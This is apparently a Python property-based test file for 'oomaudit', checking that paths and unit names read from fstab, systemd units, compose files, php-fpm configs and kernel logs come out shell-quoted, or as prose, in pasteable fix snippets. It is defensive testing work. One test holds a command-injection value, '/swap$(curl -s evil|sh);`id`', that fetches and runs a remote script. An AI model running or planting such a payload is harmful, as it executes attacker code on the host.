"""Fix snippets are safe to paste (issue 12.5): a value read from an audited file or log that
lands on a shell line of a finding's fix comes back from ``shlex.split`` as one word, whatever
it holds, and no value adds a line to a config-file snippet (an fstab line, a drop-in, a
compose service). Arbitrary values go through the real rules, from real files in a tree laid
out like a host, by the command line run in-process; a value that cannot be put on one line
turns the fix into prose that does not repeat it."""
from __future__ import annotations

import io
import json
import re
import shlex
import tempfile
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from oomaudit import main
from oomaudit.snippets import UNSAFE, pasteable, snippet

SHARED = Path(__file__).parents[1] / "klog" / "fixtures" / "v6.1-syslog-oom-group.log"
LINE_BREAKS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
EXAMPLES = settings(max_examples=25, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])
# any text a file name, a YAML key or a log line can hold (no lone surrogates: not UTF-8)
TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
               min_size=1, max_size=40)


def run(*args: str) -> dict:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main([*args, "--ram", "4G", "--format", "json", "--no-plugins"])
    assert code in (0, 1), err.getvalue()
    report = json.loads(out.getvalue())
    assert not report["errors"], report["errors"]
    return report


def fixes(report: dict, rule: str) -> list[str]:
    return [f["fix"] for f in report["findings"] if f["rule"] == rule]


def line_starting(fix: str, word: str) -> list[str]:
    """The shell line of ``fix`` whose first word is ``word``, split as the shell splits."""
    found = [shlex.split(line) for line in fix.splitlines() if line.startswith(word + " ")]
    assert len(found) == 1, fix
    return found[0]


@given(value=TEXT)
def test_a_shell_word_comes_back_whole_and_a_line_break_gives_prose(value):
    fix = snippet("swapon {path:sh} && echo {line}", path=value, line=value)
    if any(c in value for c in LINE_BREAKS):
        assert fix == UNSAFE and not pasteable(value)
    else:
        assert len(fix.splitlines()) == 1
        assert shlex.split(fix.split(" && ")[0]) == ["swapon", value]


def _fstab_field(path: str) -> str:
    """As util-linux writes a field: ASCII blanks and backslashes in octal (an escape is a
    byte: anything else is written as UTF-8)."""
    return "".join(f"\\{ord(c):03o}" if c in " \t\n\r\v\f\\" else c for c in path)


def _unescape(field: str) -> str:
    return re.sub(r"\\([0-7]{3})", lambda m: chr(int(m.group(1), 8)), field)


@EXAMPLES
@given(name=TEXT)
def test_swap_file_paths_from_fstab_are_one_word_and_one_fstab_line(name):
    path = "/" + name.lstrip("/")
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "etc").mkdir()
        (Path(tmp) / "etc" / "fstab").write_text(f"{_fstab_field(path)} none swap sw 0 0\n")
        found = fixes(run("scan", "--root", tmp, "--select", "SWAP002"), "SWAP002")
    assert len(found) == 1, path  # the file is absent from the tree
    fix = found[0]
    if not pasteable(path):
        assert fix == UNSAFE
        return
    words = line_starting(fix, "fallocate")
    assert [words[3], words[7], words[10], words[13]] == [path] * 4, (path, words)
    echo = line_starting(fix, "echo")
    assert echo[0] == "echo" and echo[2:] == [">>", "/etc/fstab"]
    fstab_line = echo[1]
    assert fstab_line.splitlines() == [fstab_line]
    fields = re.split("[ \t]+", fstab_line)  # libmount's blanks are ASCII
    assert _unescape(fields[0]) == path and fields[1:] == ["none", "swap", "sw", "0", "0"]


# what systemd accepts in a unit name, "\x2d"-style escapes and template instances included
# (an instance starts with a letter or digit here: oomaudit's systemd_names reads "a@..service"
# as the template a@.service, where systemd sees the instance ".")
UNIT = st.from_regex(r"\A[a-z0-9][a-zA-Z0-9:_.\\-]{0,30}(@[a-zA-Z0-9][a-zA-Z0-9:_.\\-]{0,9})?\Z")


@EXAMPLES
@given(stem=UNIT)
def test_unit_names_in_drop_in_fixes_are_one_word(stem):
    unit = f"{stem}.service"
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "etc" / "systemd" / "system"
        folder.mkdir(parents=True)
        (folder / unit).write_text("[Service]\nExecStart=/usr/sbin/mysqld\n")
        found = fixes(run("scan", "--root", tmp, "--select", "SYSTEMD005"), "SYSTEMD005")
    assert len(found) == 1, unit
    fix = found[0]
    dropins = f"/etc/systemd/system/{unit}.d"
    assert line_starting(fix, "mkdir") == ["mkdir", "-p", dropins]
    assert line_starting(fix, "cat") == ["cat", ">", f"{dropins}/memory.conf", "<<EOF"]
    restart = [shlex.split(line) for line in fix.splitlines() if "restart" in line]
    assert restart == [["systemctl", "restart", unit]]
    body = fix.split("<<'EOF'\n", 1)[1].split("\nEOF\n", 1)[0].splitlines()
    assert body == ["[Service]", "MemoryHigh=70%", "MemoryMax=80%"]


def _yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar: what YAML may hold raw as itself, the rest escaped."""
    raw = re.compile("[\t\x20-\x7e\xa0-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
    return '"' + "".join(c if raw.match(c) and c not in '"\\' else f"\\U{ord(c):08x}"
                         for c in text) + '"'


@EXAMPLES
@given(name=TEXT)
def test_compose_service_names_add_no_line_to_the_yaml(name):
    with tempfile.TemporaryDirectory() as tmp:
        compose = Path(tmp) / "compose.yaml"
        compose.write_text(f"services:\n  {_yaml_quoted(name)}:\n    image: nginx\n")
        report = run("check", str(compose), "--select", "CONTAINER001")
    found = fixes(report, "CONTAINER001")
    assert len(found) == 1, name
    fix = found[0]
    if not pasteable(name):
        assert fix == UNSAFE
        return
    assert fix.splitlines()[:3] == ["services:", f"  {name}:", fix.splitlines()[2]]
    assert len(fix.splitlines()) == 3 and fix.splitlines()[2].startswith("    mem_limit: ")


# a cgroup path's unit as the kernel logs it: no '/', ',' or blank ends it
LOGGED_UNIT = st.text(st.characters(blacklist_categories=("Cs", "Zs", "Cc"),
                                    blacklist_characters="/,\x85\u2028\u2029"),
                      min_size=1, max_size=30)


@EXAMPLES
@given(stem=LOGGED_UNIT)
def test_units_named_by_a_kernel_log_are_one_word(stem):
    unit = f"{stem}.service"
    log = SHARED.read_text().replace("/system.slice/app.service", f"/system.slice/{unit}")
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "kern.log").write_text(log)
        report = run("check", str(Path(tmp) / "kern.log"), "--select", "KLOG")
    found = [f for f in report["findings"] if f["rule"] in ("KLOG001", "KLOG002")]
    assert found, unit
    for finding in found:
        lines = [line for line in finding["fix"].splitlines() if "systemctl edit " in line]
        assert lines, finding["fix"]
        for line in lines:  # the command, then prose: read its first three words
            lexer = shlex.shlex(line[line.index("systemctl edit "):], posix=True)
            lexer.whitespace_split = True
            assert [lexer.get_token() for _ in range(3)] == ["systemctl", "edit", unit], line


def test_the_issue_example_is_quoted(tmp_path):
    """The fstab path of issue 12 lands in the fix as one inert word."""
    path = "/swap$(curl -s evil|sh);`id`"
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "fstab").write_text(f"{_fstab_field(path)} none swap sw 0 0\n")
    fix = fixes(run("scan", "--root", str(tmp_path), "--select", "SWAP002"), "SWAP002")[0]
    assert "swapon '/swap$(curl -s evil|sh);`id`'" in fix
    assert "echo '/swap$(curl\\040-s\\040evil|sh);`id` none swap sw 0 0' >> /etc/fstab" in fix


# what php-fpm takes in a pool's [section] name (its ini scanner refuses quotes, ';', '=')
POOL = st.text(st.sampled_from(list("abz09_-.$(){}`|&<>*?!#~ @%^+,:/\\é\u202e\x1b\x85\u2028\x0c")),
               min_size=1, max_size=12)


@EXAMPLES
@given(first=POOL, second=POOL)
def test_pool_names_add_no_line_to_the_pool_settings(first, second):
    assume(first != second)
    pools = "".join(f"[{name}]\npm = static\npm.max_children = 50\nlisten = /run/{n}.sock\n"
                    "php_admin_value[memory_limit] = 512M\n\n"
                    for n, name in enumerate((first, second)))
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "php-fpm.conf").write_text(f"[global]\n\n{pools}")
        report = run("check", str(Path(tmp) / "php-fpm.conf"), "--select", "FPM002")
    found = fixes(report, "FPM002")
    assume(found)  # names php-fpm itself refuses are CONF001s, no pool to size
    lines = found[0].splitlines()
    assert len(lines) == 2, lines  # one per pool, whatever its name holds
    named = sorted(line.split("] pm.max_children = ")[0] for line in lines)
    assert named == sorted(f"[{name}" if pasteable(name) else UNSAFE
                           for name in (first, second)), lines
